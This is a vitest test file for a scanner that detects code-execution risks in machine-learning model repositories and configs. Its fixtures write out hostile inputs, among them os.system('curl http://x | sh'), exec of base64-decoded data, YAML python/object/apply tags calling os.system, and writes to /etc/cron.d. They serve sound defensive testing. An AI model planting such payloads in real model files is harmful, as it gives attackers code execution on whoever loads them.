/** Configs that make loaders run code, and Python source in model repositories, through the CLI. */
import { describe, expect, it } from "vitest";
import type { Finding, ScanReport } from "../src/scan/types.js";
import { MAX_YAML_PARSE_BYTES } from "../src/scan/views/config/yaml-config.js";
import { scanJson } from "./helpers/run-cli.js";
import {
  autoMapRepo,
  BENIGN_CHAT_TEMPLATE,
  benignTransformersRepo,
  diffusersIndex,
  LIGHTNING_HPARAMS,
  llamaConfig,
  MALICIOUS_CHAT_TEMPLATE,
  nemoConfig,
  type RepoFiles,
  skopsFunction,
  skopsSchema,
  stModules,
  tokenizerConfig,
  writeRepo,
} from "./writers/configs.js";
import { buildTar } from "./writers/tar.js";
import { buildZip } from "./writers/zip.js";

async function scanRepo(files: RepoFiles) {
  return scanJson(writeRepo(files));
}
const above = (r: ScanReport, ...severities: Finding["severity"][]) =>
  r.findings.filter((f) => severities.includes(f.severity));
const byRule = (r: ScanReport, ruleId: string) => r.findings.filter((f) => f.ruleId === ruleId);
const formatOf = (r: ScanReport, path: string) => r.files.find((f) => f.path === path)?.format;

describe("transformers repositories", () => {
  it("passes a benign repository: only README.md is reported, as unscanned", async () => {
    const { code, report } = await scanRepo(benignTransformersRepo());
    expect(report.findings.filter((f) => f.severity !== "info")).toEqual([]);
    expect(report.findings.map((f) => f.file)).toEqual(["README.md"]);
    expect(report.findings[0]!.ruleId).toBe("UNSCANNED_CONTENT");
    for (const f of ["config.json", "tokenizer.json", "tokenizer_config.json", "trainer_state.json"]) {
      expect(formatOf(report, f)).toBe("config");
    }
    expect(code).toBe(0);
  });

  it("reports auto_map code in this repository and reviews the Python files", async () => {
    const { code, report } = await scanRepo(autoMapRepo());
    const remote = byRule(report, "CONFIG_REMOTE_CODE");
    expect(remote.map((f) => f.severity)).toEqual(["medium", "medium"]);
    expect(remote.map((f) => f.evidence.path).sort()).toEqual(["configuration_x.py", "modeling_x.py"]);
    expect(remote.find((f) => f.evidence.path === "modeling_x.py")!.message).toContain(
      "trust_remote_code=True",
    );
    // The Python files are listed for review; the benign one has no call a reviewer must see.
    expect(
      byRule(report, "PYTHON_REMOTE_CODE")
        .map((f) => f.file)
        .sort(),
    ).toEqual(["configuration_x.py", "modeling_x.py"]);
    expect(byRule(report, "PYTHON_DANGEROUS_CALL")).toEqual([]);
    expect(formatOf(report, "modeling_x.py")).toBe("python");
    expect(code).toBe(1);
  });

  it("finds os.system in modeling code, with its line", async () => {
    const evil =
      "import os\n\nclass XModel:\n    def __init__(self, config):\n        os.system('curl http://x | sh')\n";
    const { report } = await scanRepo(autoMapRepo(evil));
    const [hit] = byRule(report, "PYTHON_DANGEROUS_CALL");
    expect(hit).toMatchObject({
      severity: "high",
      file: "modeling_x.py",
      location: `@${evil.indexOf("os.system")}`,
    });
    expect(hit!.evidence.calls).toEqual([
      { line: 5, call: "os.system(", code: "os.system('curl http://x | sh')" },
    ]);
  });

  it("reports exec of base64-decoded data as critical", async () => {
    const evil = "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n";
    const { report } = await scanRepo(autoMapRepo(evil));
    expect(byRule(report, "PYTHON_EXEC_DECODED")).toMatchObject([{ severity: "critical", location: "@14" }]);
  });

  it("reports code pulled from another repository as high", async () => {
    const { report } = await scanRepo({
      "config.json": JSON.stringify(
        llamaConfig({ auto_map: { AutoModelForCausalLM: "evil-org/payload--modeling_evil.EvilModel" } }),
      ),
    });
    const [f] = byRule(report, "CONFIG_REMOTE_CODE_EXTERNAL");
    expect(f).toMatchObject({ severity: "high", evidence: { repository: "evil-org/payload" } });
    expect(f!.message).toContain("modeling_evil.py");
  });

  it("reads tokenizer auto_map pairs and custom pipelines", async () => {
    const { report } = await scanRepo({
      "tokenizer_config.json": tokenizerConfig(BENIGN_CHAT_TEMPLATE, {
        auto_map: { AutoTokenizer: ["tokenization_x.XTokenizer", null] },
      }),
      "config.json": JSON.stringify(
        llamaConfig({
          custom_pipelines: { "text-classification": { impl: "pipeline_x.XPipeline", pt: [] } },
        }),
      ),
    });
    expect(
      byRule(report, "CONFIG_REMOTE_CODE")
        .map((f) => f.evidence.path)
        .sort(),
    ).toEqual(["pipeline_x.py", "tokenization_x.py"]);
  });

  it("reports a config that turns trust_remote_code on by itself", async () => {
    const { report } = await scanRepo({
      "config_sentence_transformers.json": JSON.stringify({ model_kwargs: { trust_remote_code: true } }),
    });
    expect(byRule(report, "CONFIG_TRUST_REMOTE_CODE")).toMatchObject([
      { severity: "medium", evidence: { path: "model_kwargs.trust_remote_code" } },
    ]);
  });

  it("rejects a malicious chat template in tokenizer_config.json (needs the template checker)", async () => {
    const text = tokenizerConfig(MALICIOUS_CHAT_TEMPLATE);
    const { report } = await scanRepo({ "tokenizer_config.json": text });
    const critical = above(report, "critical");
    expect(critical.length).toBeGreaterThan(0);
    expect(critical[0]!.location).toBe(`@${text.indexOf('"chat_template"')}`);
  });

  it("reports a malformed config.json as low and keeps going", async () => {
    const { report } = await scanRepo({ "config.json": '{"model_type": "llama",}' });
    expect(report.findings).toMatchObject([{ ruleId: "CONFIG_MALFORMED", severity: "low" }]);
  });
});

describe("Hydra and NeMo configs", () => {
  it("passes a real NeMo model_config.yaml", async () => {
    const { code, report } = await scanRepo({ "model_config.yaml": nemoConfig() });
    expect(report.findings).toEqual([]);
    expect(formatOf(report, "model_config.yaml")).toBe("config");
    expect(code).toBe(0);
  });

  it("reports a dangerous _target_ inside a .nemo archive as critical", async () => {
    const nemo = buildTar([
      { name: "./model_config.yaml", data: nemoConfig("os.system") },
      { name: "./model_weights.ckpt", data: new Uint8Array(0) },
    ]);
    const { report } = await scanRepo({ "asr.nemo": nemo });
    const [f] = byRule(report, "HYDRA_DANGEROUS_TARGET");
    expect(f).toMatchObject({ severity: "critical", evidence: { target: "os.system", path: "encoder" } });
    expect(f!.location.startsWith("./model_config.yaml@")).toBe(true);
  });

  it("judges the model class NeMo imports from the root target key", async () => {
    const yaml = nemoConfig().replace(
      "target: nemo.collections.asr.models.ctc_models.EncDecCTCModel",
      "target: evil_pkg.models.Backdoor",
    );
    const { report } = await scanRepo({ "model_config.yaml": yaml });
    expect(byRule(report, "HYDRA_UNLISTED_TARGET")).toMatchObject([
      { evidence: { key: "target", target: "evil_pkg.models.Backdoor" } },
    ]);
  });

  it("judges targets: builtins.eval and hydra.utils.call critical, an unknown package high", async () => {
    const yaml = [
      "a:\n  _target_: builtins.eval\n  _args_: ['1+1']",
      "b:\n  _target_: hydra.utils.call\n  path: os.system",
      "c:\n  _target_: mycompany.models.Net\n  _partial_: true",
      "d:\n  _target_: torch.optim.AdamW\n  lr: 0.001",
    ].join("\n");
    const { report } = await scanRepo({ "conf/config.yaml": yaml });
    expect(byRule(report, "HYDRA_DANGEROUS_TARGET").map((f) => f.evidence.target)).toEqual([
      "builtins.eval",
      "hydra.utils.call",
    ]);
    expect(byRule(report, "HYDRA_UNLISTED_TARGET")).toMatchObject([
      { severity: "high", evidence: { target: "mycompany.models.Net", partial: true } },
    ]);
  });

  it("finds _target_ in JSON configs too", async () => {
    const { report } = await scanRepo({
      "hparams.json": JSON.stringify({ model: { net: { _target_: "subprocess.Popen", args: ["id"] } } }),
    });
    expect(byRule(report, "HYDRA_DANGEROUS_TARGET")).toMatchObject([
      { severity: "critical", evidence: { path: "model.net" } },
    ]);
  });
});

describe("YAML python tags", () => {
  it("reports tags that PyYAML's unsafe loader calls", async () => {
    const yaml = [
      "a: !!python/object/apply:os.system ['id']",
      "b: !!python/name:builtins.eval ''",
      "c: !<tag:yaml.org,2002:python/object/new:subprocess.Popen> [['id']]",
      "d: !!python/object:mypackage.Thing {x: 1}",
      "e: !!python/tuple [1, 2]",
      "f: !!python/object/apply:collections.OrderedDict [[[a, 1]]]",
      "# g: !!python/object/apply:os.popen ['a comment is not a tag']",
      "h: '!!python/object/apply:os.popen neither is a string'",
    ].join("\n");
    const { report } = await scanRepo({ "hparams.yaml": yaml });
    expect(byRule(report, "YAML_PYTHON_TAG").map((f) => f.evidence.tag)).toEqual([
      "!!python/object/apply:os.system",
      "!!python/name:builtins.eval",
      "!!python/object/new:subprocess.Popen",
    ]);
    expect(byRule(report, "YAML_PYTHON_OBJECT").map((f) => f.evidence.tag)).toEqual([
      "!!python/object:mypackage.Thing",
    ]);
    expect(byRule(report, "YAML_PYTHON_TAG")[0]!.location).toBe(`@${yaml.indexOf("os.system")}`);
  });

  it("passes framework classes yaml.dump writes into a Lightning hparams.yaml", async () => {
    const { report } = await scanRepo({ "hparams.yaml": LIGHTNING_HPARAMS });
    expect(report.findings).toEqual([]);
  });

  it("resolves %TAG shorthands to the tags they stand for", async () => {
    const yaml = "%TAG !py! tag:yaml.org,2002:python/\n---\nx: !py!object/apply:os.system ['id']\n";
    const { report } = await scanRepo({ "config.yml": yaml });
    expect(byRule(report, "YAML_PYTHON_TAG")).toHaveLength(1);
  });

  it("searches YAML too large to parse as text", async () => {
    const filler = "layer:\n  _target_: torch.nn.Linear\n  in_features: 64\n".repeat(30_000);
    const yaml = `${filler}evil:\n  _target_: os.system\n  cmd: !!python/object/apply:subprocess.check_output [[id]]\n`;
    expect(yaml.length).toBeGreaterThan(MAX_YAML_PARSE_BYTES);
    const { report } = await scanRepo({ "big.yaml": yaml });
    expect(report.findings.map((f) => f.ruleId).sort()).toEqual([
      "HYDRA_DANGEROUS_TARGET",
      "YAML_PYTHON_TAG",
    ]);
  });

  it("still finds tags in YAML the parser rejects", async () => {
    const { report } = await scanRepo({ "bad.yaml": "a: !!python/object/apply:os.system ['id']\n b: [\n" });
    expect(byRule(report, "CONFIG_MALFORMED")).toHaveLength(1);
    expect(byRule(report, "YAML_PYTHON_TAG")).toHaveLength(1);
  });

  it("refuses alias bombs and deep nesting as unverifiable, without crashing", async () => {
    const bomb = ["a: &a [x, x, x, x, x, x, x, x, x]"];
    for (const [i, name] of ["b", "c", "d", "e", "f", "g", "h"].entries()) {
      const prev = String.fromCharCode(97 + i);
      bomb.push(`${name}: &${name} [${Array(9).fill(`*${prev}`).join(", ")}]`);
    }
    const { report } = await scanRepo({
      "bomb.yaml": `${bomb.join("\n")}\n_target_: x.y\n`,
      // Not JSON (a key first), so the YAML parser would meet the nesting.
      "deep.yaml": `a: ${"[".repeat(20_000)}${"]".repeat(20_000)}\n`,
      "deep.json.yaml": `${"[".repeat(20_000)}${"]".repeat(20_000)}\n`,
      "deeper.yaml": `${"- ".repeat(20_000)}x\n`,
    });
    const unverifiable = byRule(report, "ARCHIVE_UNVERIFIABLE");
    expect(unverifiable.map((f) => f.file).sort()).toEqual(["bomb.yaml", "deep.yaml", "deeper.yaml"]);
    expect(unverifiable.every((f) => f.severity === "medium")).toBe(true);
    // Valid JSON is read as JSON whatever the name: nesting costs that reader nothing.
    expect(report.findings.filter((f) => f.file === "deep.json.yaml")).toEqual([]);
  });
});

describe("skops", () => {
  it("passes a fitted LogisticRegression", async () => {
    const skops = buildZip([
      { name: "schema.json", data: skopsSchema() },
      { name: "a1.npy", data: "" },
    ]);
    const { report } = await scanRepo({ "model.skops": skops });
    expect(
      report.findings.filter((f) => f.file === "model.skops" && f.location.startsWith("schema.json")),
    ).toEqual([]);
  });

  it("reports os.system as a FunctionNode, and an unknown type as high", async () => {
    const schema = skopsSchema({
      func: skopsFunction("os", "system"),
      helper: { __class__: "Helper", __module__: "mycode.helpers", __loader__: "ObjectNode" },
    });
    const { report } = await scanRepo({ "model.skops": buildZip([{ name: "schema.json", data: schema }]) });
    expect(byRule(report, "SKOPS_DANGEROUS_TYPE")).toMatchObject([
      { severity: "critical", evidence: { type: "os.system", loader: "FunctionNode" } },
    ]);
    expect(byRule(report, "SKOPS_UNTRUSTED_TYPE")).toMatchObject([
      { severity: "high", evidence: { type: "mycode.helpers.Helper" } },
    ]);
    expect(byRule(report, "SKOPS_DANGEROUS_TYPE")[0]!.location.startsWith("schema.json@")).toBe(true);
  });
});

describe("diffusers and sentence-transformers", () => {
  it("passes Stable Diffusion's model_index.json and a plain modules.json", async () => {
    const { report } = await scanRepo({ "model_index.json": diffusersIndex(), "modules.json": stModules() });
    expect(report.findings).toEqual([]);
  });

  it("reports custom components and custom pipelines", async () => {
    const { report } = await scanRepo({
      "model_index.json": diffusersIndex({
        _class_name: ["pipeline_my", "MyPipeline"],
        unet: ["my_unet", "MyUNet"],
        custom_pipeline: "someone/community-pipeline",
      }),
    });
    expect(
      byRule(report, "CONFIG_REMOTE_CODE")
        .map((f) => f.evidence.path)
        .sort(),
    ).toEqual(["pipeline_my.py", "unet/my_unet.py"]);
    expect(byRule(report, "CONFIG_REMOTE_CODE_EXTERNAL")).toMatchObject([{ severity: "high" }]);
  });

  it("reports custom sentence-transformers modules by where their code comes from", async () => {
    const { report } = await scanRepo({
      "modules.json": stModules(["custom_st.Transformer", "os.system", "otherpkg.layers.Dense"]),
    });
    expect(byRule(report, "CONFIG_REMOTE_CODE")).toMatchObject([{ evidence: { file: "custom_st.py" } }]);
    expect(byRule(report, "CONFIG_DANGEROUS_CLASS")).toMatchObject([{ severity: "critical" }]);
    expect(byRule(report, "CONFIG_UNLISTED_CLASS")).toMatchObject([
      { evidence: { type: "otherpkg.layers.Dense" } },
    ]);
  });
});

describe("Python source", () => {
  it("does not count calls named in strings and comments", async () => {
    const src = [
      "# os.system('id')",
      "'''subprocess.Popen(['id'])'''",
      'x = "eval(input())"',
      "model.eval()",
      "torch.load(path, weights_only=True)",
      "re.compile(r'\\d+')",
      "importlib.import_module('json')",
    ].join("\n");
    const { report } = await scanRepo({ "utils.py": src });
    expect(report.findings.map((f) => f.ruleId)).toEqual(["PYTHON_REMOTE_CODE"]);
    expect(report.findings[0]!.severity).toBe("low");
  });

  it("reports each kind of call a reviewer must see", async () => {
    const src = [
      "import subprocess, requests, pickle, shutil, torch",
      "subprocess.run(['id'])",
      "eval(user_code)",
      "__import__(name)",
      "requests.get('http://example.com/payload')",
      "pickle.loads(blob)",
      "torch.load(path)",
      "shutil.rmtree(home)",
      "open('/etc/cron.d/job', 'w').write(x)",
      "exec('import os; os.system(\"id\")')",
    ].join("\n");
    const { report } = await scanRepo({ "evil.py": src });
    const kinds = byRule(report, "PYTHON_DANGEROUS_CALL").map((f) => f.evidence.kind);
    expect(kinds.sort()).toEqual([
      "code-execution",
      "deserialization",
      "dynamic-import",
      "file-delete",
      "file-write",
      "network",
      "process",
    ]);
    const process = byRule(report, "PYTHON_DANGEROUS_CALL").find((f) => f.evidence.kind === "process")!;
    // os.system inside exec's literal argument is found too, reported at the exec call.
    expect((process.evidence.calls as { line: number }[]).map((c) => c.line)).toEqual([2, 10]);
    expect(process.evidence.count).toBe(2);
  });

  it("recognizes a script by its shebang", async () => {
    const { report } = await scanRepo({ run: "#!/usr/bin/env python3\nimport os\nos.popen('id')\n" });
    expect(formatOf(report, "run")).toBe("python");
    expect(byRule(report, "PYTHON_DANGEROUS_CALL")).toHaveLength(1);
  });
});

describe("chat_template.jinja", () => {
  it("passes a benign template and checks a malicious one (needs the template checker)", async () => {
    const { report } = await scanRepo({
      "chat_template.jinja": BENIGN_CHAT_TEMPLATE,
      "sub/chat_template.jinja": MALICIOUS_CHAT_TEMPLATE,
    });
    expect(formatOf(report, "chat_template.jinja")).toBe("config");
    expect(report.findings.filter((f) => f.file === "chat_template.jinja")).toEqual([]);
    expect(above(report, "critical").map((f) => f.file)).toContain("sub/chat_template.jinja");
  });
});
